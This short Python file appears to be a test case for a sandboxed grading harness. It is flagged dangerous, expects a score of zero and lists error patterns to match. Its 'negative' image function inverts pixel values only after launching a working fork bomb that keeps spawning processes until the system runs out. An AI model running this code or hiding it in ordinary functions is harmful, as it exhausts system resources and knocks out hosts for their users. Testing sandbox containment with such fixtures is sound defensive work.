"""Forks, and has every child fork, until no more processes can be made."""

earns = {"negative": 0}
reason = r"BlockingIOError|ended the kernel|took longer than|no answer"
dangerous = True

# %% exercise="negative"
import os
import time


def negative(image):
    for _ in range(1000):
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(1)
    return 255 - image
